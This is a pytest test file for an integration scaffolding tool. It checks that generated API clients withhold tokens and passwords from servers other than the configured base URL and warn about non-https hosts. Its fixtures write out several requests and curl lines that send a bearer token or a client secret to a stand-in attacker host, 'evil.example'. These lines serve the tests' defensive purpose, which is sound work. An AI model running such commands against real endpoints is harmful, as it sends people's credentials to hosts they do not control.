"""Requests that a document sends to another site than the base URL's: they carry no credentials."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from unittest.mock import AsyncMock

import pytest
from autohive_integrations_sdk import ExecutionContext

from autohive_scaffold.sources import reading
from tests.helpers.delivered import STRICT, Bake, Delivered

GOOD = "https://api.good.test/v1"
SECRET = "Zx81kQ77LmPw90aB"
FOREIGN = {
    "another site": "https://evil.example",
    "another site below a country": "https://good.co.uk",
    "http": "http://api.good.test",
    "a site that ends alike": "https://api.notgood.test",
    "the base URL as a label": "https://api.good.test.evil.example",
    "an address": "https://10.0.0.1",
}
FIELDS = {
    "a token": ({"auth_type": "custom", "auth_fields": "api_token"}, {"api_token": SECRET}),
    "a header and a query": (
        {"auth_type": "custom", "auth_fields": "api_key -> header X-Key, app -> query app"},
        {"api_key": SECRET, "app": SECRET},
    ),
    "a query": ({"auth_type": "custom", "auth_fields": "app -> query app"}, {"app": SECRET}),
    "basic": (
        {"auth_type": "custom", "auth_fields": "username, password"},
        {"username": SECRET, "password": SECRET},
    ),
    "an exchange": (
        {"auth_type": "custom", "auth_fields": f"api_key -> token POST {GOOD}/token form {{**fields}}"},
        {"api_key": SECRET},
    ),
    "oauth": ({"auth_type": "platform", "provider": "github"}, {"access_token": SECRET}),
    "oauth in a header": (
        {"auth_type": "platform", "provider": "github", "headers": "Authorization: token {access_token}"},
        {"access_token": SECRET},
    ),
}


def document(url: str, **more: Any) -> dict[str, Any]:
    """An OpenAPI document with one operation that has a server of its own."""
    answer = {
        "200": {"content": {"application/octet-stream": {"schema": {"type": "string", "format": "binary"}}}}
    }
    paths = {
        "/items": {"get": {"operationId": "listItems"}},
        "/things": {"get": {"operationId": "listThings", "servers": [{"url": url}]}},
        "/file": {"get": {"operationId": "getFile", "servers": [{"url": url}], "responses": answer}},
        "/q": {
            "servers": [{"url": url}],
            "post": {"operationId": "sendIt", "parameters": [{"name": "q", "in": "query", "required": True}]},
        },
    }
    security = {
        "security": [{"a": []}],
        "components": {"securitySchemes": {"a": {"type": "http", "scheme": "bearer"}}},
    }
    return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths, **security, **more}


@pytest.fixture
def source(tmp_path: Path) -> Callable[..., str]:
    """Write a document to a file, and give its path."""

    def write(content: Any, name: str = "api.json") -> str:
        path = tmp_path / name
        path.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
        return str(path)

    return write


@pytest.fixture
def said(bake_fresh: Bake, capfd: pytest.CaptureFixture[str]) -> Callable[..., tuple[Delivered, str]]:
    """Deliver, and give what was delivered and what the command said."""

    def deliver(**answers: Any) -> tuple[Delivered, str]:
        delivered = bake_fresh(name="Good", **answers)
        return delivered, capfd.readouterr().out

    return deliver


async def sent(
    delivered: Delivered,
    monkeypatch: pytest.MonkeyPatch,
    credentials: dict[str, str],
    action: str,
    **inputs: Any,
) -> tuple[str, str]:
    """The URL to which an action sends its request, and all that it sends, as it leaves the SDK."""
    seen: list[tuple[str, str]] = []

    class Session:
        def __init__(self, **_: Any) -> None:
            pass

        def request(self, method: str, url: str, **more: Any) -> Any:
            seen.append((url, f"{url} {more}"))
            raise TimeoutError

        async def __aenter__(self) -> "Session":
            return self

        async def __aexit__(self, *_: Any) -> None:
            pass

        async def close(self) -> None:
            pass

    module = delivered.load()
    monkeypatch.setattr("aiohttp.ClientSession", Session)
    monkeypatch.setattr(module, "ClientSession", Session, raising=False)
    if hasattr(module, "request_token"):
        monkeypatch.setattr(module, "request_token", AsyncMock(return_value=SECRET))
    kind = "PlatformOauth2" if "access_token" in credentials else "Custom"
    auth = {"auth_type": kind, "credentials": credentials}
    async with ExecutionContext(auth=auth, request_config={"max_retries": 0, "timeout": 1}) as context:
        await module.good.execute_action(action, inputs, context)
    assert len(seen) == 1
    return seen[0]


CALLS: dict[str, dict[str, str]] = {"list_things": {}, "get_file": {}, "send_it": {"q": "x"}}


@pytest.mark.parametrize("fields", FIELDS)
async def test_another_site_gets_no_credentials(said, source, monkeypatch, fields: str):
    answers, credentials = FIELDS[fields]
    delivered, printed = said(actions=source(document(FOREIGN["another site"])), **answers)

    assert "is ready" not in printed
    assert "list_things, get_file, send_it may go to https://evil.example, which is another site" in printed
    for action, inputs in CALLS.items():
        url, everything = await sent(delivered, monkeypatch, credentials, action, **inputs)
        assert url.startswith("https://evil.example/")
        assert SECRET not in everything
        assert "Authorization" not in everything
    url, everything = await sent(delivered, monkeypatch, credentials, "list_items")
    assert url.startswith(f"{GOOD}/items")
    assert fields == "basic" or SECRET in everything
    result = delivered.pytest("-q", *STRICT)
    assert result.returncode == 0, result.stdout


@pytest.mark.parametrize("url", FOREIGN.values(), ids=FOREIGN)
async def test_what_is_another_site(said, source, monkeypatch, url: str):
    delivered, printed = said(actions=source(document(url)), **FIELDS["a token"][0])

    assert "is ready" not in printed
    assert SECRET not in (await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things"))[1]


@pytest.mark.parametrize("url", ["https://up.good.test", "https://good.test:8443/x"])
async def test_the_same_site_gets_them(said, source, monkeypatch, url: str):
    delivered, printed = said(actions=source(document(url)), **FIELDS["a token"][0])

    assert "is ready" in printed
    assert SECRET in (await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things"))[1]


async def test_the_base_url_of_the_author_decides(said, source, monkeypatch):
    answers = {**FIELDS["a token"][0], "base_url": "https://mine.example"}
    delivered, printed = said(actions=source(document("https://up.good.test")), **answers)

    assert "is ready" not in printed
    assert SECRET not in (await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things"))[1]


@pytest.mark.parametrize("layout", ["single-file", "multi-file"])
async def test_what_the_author_wrote_gets_them(said, source, monkeypatch, layout: str):
    typed = "list_things() -> GET https://evil.example/things"
    answers = {**FIELDS["a token"][0], "base_url": GOOD, "layout": layout}
    stub = 'def list_things() -> "GET https://evil.example/things": ...\n'
    for actions in (typed, source(stub, "actions.pyi")):
        delivered, printed = said(actions=actions, slug="good" if actions == typed else "good-2", **answers)

        assert "is ready" in printed
        assert "signed" not in "".join(
            delivered.read(name) for name in delivered.files() if name.endswith(".py")
        )
    assert "evil.example" in delivered.read("config.json") + "".join(map(delivered.read, delivered.files()))


@pytest.mark.parametrize("own", [{"servers": [{"url": "http://evil.example"}]}])
async def test_a_server_that_all_operations_have_is_not_the_base_url_of_another_site(
    said, source, monkeypatch, own
):
    content = document(GOOD)
    content["paths"] = {"/things": {"get": {"operationId": "listThings", **own}}}
    delivered, printed = said(actions=source(content), **FIELDS["a token"][0])

    assert "is ready" not in printed
    assert f'BASE_URL = "{GOOD}"' in delivered.read("good.py")
    url, everything = await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things")
    assert url == "http://evil.example/things"
    assert SECRET not in everything


def postman(*urls: str) -> dict[str, Any]:
    auth = {"type": "bearer", "bearer": [{"key": "token", "value": SECRET}]}
    items = [{"name": f"List {url.rsplit('/')[-1]}", "request": {"url": url}} for url in urls]
    return {"info": {"name": "x"}, "auth": auth, "item": items}


def har(*urls: str) -> dict[str, Any]:
    headers = [{"name": "Authorization", "value": f"Bearer {SECRET}"}]
    answer = {"status": 200, "content": {"mimeType": "application/json", "text": "[]"}}
    entries = [
        {"request": {"method": "GET", "url": url, "headers": headers}, "response": answer} for url in urls
    ]
    return {"log": {"entries": entries}}


def curl(*urls: str) -> str:
    return "\n".join(f"curl {url} -H 'Authorization: Bearer {SECRET}'" for url in urls)


@pytest.mark.parametrize("url", ["https://evil.example/things", "http://api.good.test/v1/things"])
@pytest.mark.parametrize("write", [postman, har, curl])
async def test_a_recording_of_several_hosts(said, source, monkeypatch, write, url: str):
    content = write(f"{GOOD}/items", f"{GOOD}/users", url)
    name = {postman: "x.json", har: "x.har", curl: "x.sh"}[write]
    delivered, printed = said(actions=source(content, name))

    assert "is ready" not in printed
    if url.startswith("http:"):
        assert "which is not https" in printed
    found, everything = await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things")
    assert found == url
    assert SECRET not in everything
    assert SECRET in (await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_users"))[1]


def test_the_token_of_a_recording_is_not_exchanged_at_another_site(said, source):
    login = "curl https://evil.example/token -d grant_type=client_credentials -d client_id=abc -d client_secret=hush"
    delivered, printed = said(actions=source(f"{login}\n{curl(f'{GOOD}/items')}", "x.sh"))

    assert "is ready" not in printed
    assert "evil.example" not in delivered.read("good.py")
    assert "how users get the access token, which https://evil.example/token gives" in " ".join(
        printed.split()
    )


async def test_what_is_stored_stays_without_credentials(said, source, monkeypatch):
    stored = reading.read(source(document(FOREIGN["another site"]))).text
    delivered, printed = said(actions=stored, base_url=GOOD, **FIELDS["a token"][0])

    assert "is ready" not in printed
    assert SECRET not in (await sent(delivered, monkeypatch, {"api_token": SECRET}, "list_things"))[1]


IN_THE_CLEAR = {
    "api.json": document(GOOD, servers=[{"url": "http://api.good.test/v1"}], paths={"/items": {"get": {}}}),
    "x.sh": curl("http://api.good.test/v1/items"),
}


@pytest.mark.parametrize("name", IN_THE_CLEAR)
def test_a_base_url_without_https_is_ready_only_where_the_author_gave_it(said, source, name: str):
    actions = source(IN_THE_CLEAR[name], name)

    _, printed = said(actions=actions)
    assert "is ready" not in printed
    assert "give base_url, with https if the API has it" in printed

    _, printed = said(actions=actions, slug="good-2", base_url="http://api.good.test/mine")
    assert "is ready" in printed
